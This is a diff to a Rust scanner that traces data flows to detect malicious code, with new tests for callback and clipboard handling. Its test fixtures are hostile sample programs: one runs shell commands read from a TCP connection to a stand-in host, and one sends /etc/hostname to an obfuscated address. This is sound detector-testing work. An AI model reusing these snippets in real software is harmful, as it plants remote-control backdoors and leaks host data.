@@ -327,6 +327,9 @@ struct Summary {
     /// Per parameter: the sources the function puts into it (`out.push(path)` into a `&mut
     /// Vec` it is handed: a walk that collects what it finds into its caller's list).
     param_fills: Vec<u64>,
+    /// Per parameter: the sources the function hands it when it calls it (`f(&path)` in a walk
+    /// that takes a callback): what the caller's closure is called with.
+    param_called: Vec<u64>,
 }
 
 /// Where one statement's own signals are.
@@ -600,14 +603,19 @@ fn flows_in_target(
         .filter(|(_, s)| matches!(&s.kind, SignalKind::Clipboard { how, .. } if how.starts_with("runs `")))
         .map(|(index, _)| index)
         .collect();
-    // Clipboard writes that are calls of a function by its name (`clipboard::set_text(a)`), by
-    // signal: the name called.
-    let clipboard_writers: HashMap<usize, &str> = signals
+    // Clipboard writes that are calls of a function by its name (`clipboard::set_text(a)`,
+    // `board.set_text(a)`), by signal: the name called, and the path before it if any.
+    let clipboard_writers: HashMap<usize, (Option<&str>, &str)> = signals
         .iter()
         .enumerate()
         .filter_map(|(index, s)| match &s.kind {
             SignalKind::Clipboard { how, write: true } if !how.contains('`') => {
-                Some((index, how.rsplit("::").next().unwrap_or(how)))
+                let called = how.trim_start_matches('.').trim_end_matches("()");
+                let (path, name) = match called.rsplit_once("::") {
+                    Some((path, name)) => (Some(path.rsplit("::").next().unwrap_or(path)), name),
+                    None => (None, called),
+                };
+                Some((index, (path, name)))
             }
             _ => None,
         })
@@ -925,8 +933,9 @@ struct Target<'t> {
     destinations: &'t HashMap<usize, (u32, Vec<String>)>,
     /// Clipboard signals that are a tool's name in the code (`"pbcopy"`), by signal.
     clipboard_tools: &'t std::collections::HashSet<usize>,
-    /// Clipboard writes that are calls of a function named so, by signal: the name.
-    clipboard_writers: &'t HashMap<usize, &'t str>,
+    /// Clipboard writes that are calls of a function named so, by signal: the path before the
+    /// name (`clipboard` in `clipboard::set_text`), if any, and the name.
+    clipboard_writers: &'t HashMap<usize, (Option<&'t str>, &'t str)>,
 }
 
 /// One pass over a function with the current summaries: its own summary, and the flows found.
@@ -961,6 +970,7 @@ fn analyse_function(
         param_sinks: vec![BTreeMap::new(); params],
         param_meets: vec![0; params],
         param_fills: vec![0; params],
+        param_called: vec![0; params],
     };
     let mut locals: HashMap<&str, u64> = HashMap::new();
     for (index, names) in function.params.iter().take(MAX_PARAMS).enumerate() {
@@ -1000,6 +1010,24 @@ fn analyse_function(
             }
         }
     }
+    // A closure handed to a function of the crate that calls it with what it found (`walk(&root,
+    // &mut |path| wipe(path))`): the closure's parameters hold that from the start. The
+    // argument's identifiers stand for them (the closure's own, and the few its body names).
+    for (call_index, call) in function.calls.iter().enumerate() {
+        for (position, arg) in call.args.iter().enumerate() {
+            let called = callees_of(call_index)
+                .iter()
+                .filter_map(|callee| summaries.get(callee))
+                .filter_map(|summary| summary.param_called.get(position))
+                .fold(0, |all, bits| all | bits);
+            if called == 0 {
+                continue;
+            }
+            for name in arg {
+                *locals.entry(name.as_str()).or_default() |= called;
+            }
+        }
+    }
     // What each statement gave each binding it defines: a written file's destination is judged
     // by what its path held before the write (`fs::write(&path, data)` makes `path` carry
     // `data` for what is done with it afterwards, not for where the data went).
@@ -1008,7 +1036,7 @@ fn analyse_function(
     // they are called on.
     let mut call_returns: HashMap<usize, u64> = HashMap::new();
     // The same, call by call, with the name called.
-    let mut returns_by_call: HashMap<usize, Vec<(&str, u64)>> = HashMap::new();
+    let mut returns_by_call: HashMap<usize, Vec<(&CallSite, u64)>> = HashMap::new();
     let mut sends_on: HashMap<usize, Vec<&str>> = HashMap::new();
     let mut sends_fresh: std::collections::HashSet<usize> = std::collections::HashSet::new();
     for (call_index, call) in function.calls.iter().enumerate() {
@@ -1047,7 +1075,7 @@ fn analyse_function(
                 returns_by_call
                     .entry(statement)
                     .or_default()
-                    .push((call.callee.as_str(), returns));
+                    .push((call, returns));
             }
             if let Some(receiver) = sending {
                 sends_on.entry(statement).or_default().push(receiver);
@@ -1182,14 +1210,22 @@ fn analyse_function(
                         .iter()
                         .filter(|name| words.contains(name))
                         .fold(0, |all, name| all | before_write(name))
-                } else if let Some(writer) = clipboard_writers.get(&signal) {
+                } else if let Some(&(path, name)) = clipboard_writers.get(&signal) {
                     // What a clipboard writer gives back (`set_text(a)?`, whose tool came from
-                    // a table that names the reader too) is not what it was handed.
+                    // a table that names the reader too) is not what it was handed. Only the
+                    // writer's own call: `set_text(&swap::set_text())` hands it another's.
+                    let the_writer = |call: &CallSite| {
+                        call.callee == name
+                            && match path {
+                                Some(path) => call.qualifier.as_deref() == Some(path),
+                                None => call.method,
+                            }
+                    };
                     let others = returns_by_call
                         .get(&index)
                         .into_iter()
                         .flatten()
-                        .filter(|(callee, _)| callee != writer)
+                        .filter(|(call, _)| !the_writer(call))
                         .fold(0, |all, (_, returns)| all | returns);
                     mine.map_or(0, |o| o.sources) | nested[index] | used | others
                 } else {
@@ -1224,6 +1260,27 @@ fn analyse_function(
         if !changed {
             break;
         }
+    }
+    // Parameters called as functions (`f(&path, len)`), with what they are handed.
+    for call in &function.calls {
+        if call.method || call.qualifier.is_some() || call.callee.is_empty() {
+            continue;
+        }
+        let Some(param) = function
+            .params
+            .iter()
+            .take(params)
+            .position(|names| names.contains(&call.callee))
+        else {
+            continue;
+        };
+        let handed = call
+            .args
+            .iter()
+            .flatten()
+            .map(|name| taint_of(&locals, name))
+            .fold(0, |all, bits| all | bits);
+        summary.param_called[param] |= handed & SOURCE_MASK;
     }
     // Calls into functions of the crate.
     for (call_index, call) in function.calls.iter().enumerate() {
@@ -1317,6 +1374,109 @@ mod tests {
     /// Asserts the most severe finding of `rule` (or that there is none).
     fn expect(findings: &[(String, Verdict)], rule: &str, wanted: Option<Verdict>) {
         assert_eq!(severity(findings, rule), wanted, "{rule}: {findings:?}");
+    }
+
+    /// A connection kept in a tuple struct, or in a struct declared after its `impl`, is read
+    /// through `self` in its methods; a parameter of such a struct holds one too.
+    #[test]
+    fn connections_kept_in_structs_are_network_sources() {
+        let tuple = r#"
+use std::io::Read;
+use std::net::TcpStream;
+use std::process::Command;
+pub struct Link(TcpStream);
+impl Link {
+    fn next(&mut self) -> String {
+        let mut order = String::new();
+        let _ = self.0.read_to_string(&mut order);
+        order
+    }
+}
+fn serve(link: &mut Link) {
+    let order = link.next();
+    let _ = Command::new("sh").arg("-c").arg(order).status();
+}
+pub fn start() {
+    if let Ok(stream) = TcpStream::connect("203.0.113.9:7000") {
+        serve(&mut Link(stream));
+    }
+}
+"#;
+        expect(&findings(tuple), "scan.remote-control", Some(Verdict::Hold));
+        let declared_after = r#"
+use std::io::{BufRead, BufReader};
+use std::net::TcpStream;
+use std::process::Command;
+impl Conn {
+    fn line(&mut self) -> String {
+        let mut line = String::new();
+        let _ = self.rd.read_line(&mut line);
+        line
+    }
+}
+struct Conn {
+    rd: BufReader<TcpStream>,
+}
+fn run(conn: &mut Conn) {
+    let line = conn.line();
+    let _ = Command::new("sh").args(["-c", &line]).status();
+}
+pub fn start() {
+    if let Ok(stream) = TcpStream::connect("203.0.113.9:7000") {
+        run(&mut Conn { rd: BufReader::new(stream) });
+    }
+}
+"#;
+        expect(
+            &findings(declared_after),
+            "scan.remote-control",
+            Some(Verdict::Hold),
+        );
+        // A client that holds its connection and only parses what it reads: nothing.
+        let client = r#"
+use std::io::{BufRead, BufReader, Write};
+use std::net::TcpStream;
+pub struct Client {
+    rd: BufReader<TcpStream>,
+    wr: TcpStream,
+}
+impl Client {
+    pub fn get(&mut self, key: &str) -> Option<String> {
+        writeln!(self.wr, "GET {key}").ok()?;
+        let mut line = String::new();
+        self.rd.read_line(&mut line).ok()?;
+        line.strip_prefix("VALUE ").map(|v| v.trim().to_owned())
+    }
+}
+"#;
+        assert!(findings(client).is_empty(), "{:?}", findings(client));
+    }
+
+    /// An address built from the package's constants, as one number or an array of them, is
+    /// where the code sends; one built from values it computes is not known.
+    #[test]
+    fn addresses_from_constants_are_fixed_destinations() {
+        let array = r#"
+use std::io::Write;
+use std::net::{Ipv4Addr, TcpStream};
+const NET_A: u8 = 0xCB;
+const NET_B: u8 = 0;
+const NET_C: u8 = 113;
+const HOST_D: u8 = 9 ^ 0;
+pub fn report() {
+    let name = std::fs::read_to_string("/etc/hostname").unwrap_or_default();
+    let ip = Ipv4Addr::from([NET_A, NET_B, NET_C, HOST_D]);
+    if let Ok(mut s) = TcpStream::connect((ip, 80)) {
+        let _ = s.write_all(name.as_bytes());
+    }
+}
+"#;
+        expect(&findings(array), "scan.host-profiling", Some(Verdict::Hold));
+        let computed = array.replace(
+            "Ipv4Addr::from([NET_A, NET_B, NET_C, HOST_D])",
+            "Ipv4Addr::from(seed())",
+        ) + "fn seed() -> u32 { std::process::id() }\n";
+        expect(&findings(&computed), "scan.host-profiling", None);
     }
 
     /// A request's verb on a client handed in sends its address; `get` on a map that arrived
